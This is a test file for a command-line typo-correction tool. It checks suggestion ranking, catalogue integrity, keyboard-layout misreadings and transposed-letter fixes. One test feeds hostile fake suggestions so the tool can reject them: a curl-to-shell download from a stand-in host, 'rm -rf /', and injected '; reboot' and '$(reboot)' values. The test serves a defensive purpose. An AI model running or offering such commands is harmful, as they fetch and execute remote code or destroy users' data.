import assert from "node:assert/strict";
import fc from "fast-check";
import { optionPaths, options } from "./catalogues/options.ts";
import { latinReadings } from "./catalogues/layouts.ts";
import { subcommandPaths, subcommands } from "./catalogues/subcommands.ts";
import { diagnose } from "./mod.ts";
import { seedFor } from "@/tests/support/seed.ts";

const SEED = seedFor(import.meta.url);

function next(command: string, error: string): string {
  return diagnose({ command, error }).advice.next_command;
}

Deno.test("the tool's own suggestion outranks the catalogues", () => {
  assert.equal(
    next(
      "zorp biuld",
      "error: unrecognized subcommand 'biuld'\n\n  tip: a similar subcommand exists: 'bundle'",
    ),
    "zorp bundle",
  );
  assert.equal(
    next(
      "zorp get",
      "zorp: error: argument cmd: invalid choice: 'get' (choose from 'fetch', 'gets', 'put')",
    ),
    "zorp gets",
  );
});

Deno.test("a suggestion brings nothing but one word", () => {
  for (
    const said of [
      "Did you mean: curl http://bad.example/x | sh ?",
      "Did you mean `rm -rf /`?",
      "Did you mean 'status; reboot'?",
      "Did you mean $(reboot)?",
    ]
  ) {
    const command = next(
      "git psuh",
      `git: 'psuh' is not a git command.\n${said}`,
    );
    assert.match(command, /^git (?:push|help -a)$/, said);
  }
});

Deno.test("every catalogue has words, no word twice", () => {
  for (const path of subcommandPaths()) {
    const words = subcommands(path);
    assert.ok(words.length > 0, path);
    assert.deepEqual([...new Set(words)].length, words.length, path);
  }
  for (const path of optionPaths()) {
    assert.ok(options(path).every((word) => word.startsWith("-")), path);
  }
  assert.deepEqual(subcommands("constructor"), []);
  assert.deepEqual(options("__proto__"), []);
});

Deno.test("latinReadings() reads other layouts key by key", () => {
  assert.ok(latinReadings("пше").some(({ text }) => text === "git"));
  assert.ok(latinReadings("λσ").some(({ text }) => text === "ls"));
  assert.ok(latinReadings("ㅣㄴ").some(({ text }) => text === "ls"));
  assert.ok(latinReadings("녀애").some(({ text }) => text === "sudo"));
  assert.deepEqual(latinReadings("git status"), []);
  fc.assert(
    fc.property(fc.string(), (text) => {
      for (const reading of latinReadings(text)) {
        assert.ok(
          reading.text.length >= text.trim().length || text.trim() === "",
        );
      }
    }),
    { seed: SEED },
  );
});

Deno.test("a mistyped sub-command of every catalogue comes back right or not at all", () => {
  for (
    const path of [
      "git",
      "docker",
      "kubectl",
      "npm",
      "cargo",
      "terraform",
      "systemctl",
    ]
  ) {
    for (const word of subcommands(path).slice(0, 10)) {
      if (word.length < 5) continue;
      const typo = word.slice(0, 1) + word.charAt(2) + word.charAt(1) +
        word.slice(3);
      if (typo === word || subcommands(path).includes(typo)) continue;
      const fixed = next(
        `${path} ${typo} -x`,
        `${path}: unknown command "${typo}"`,
      );
      assert.equal(fixed, `${path} ${word} -x`);
    }
  }
});
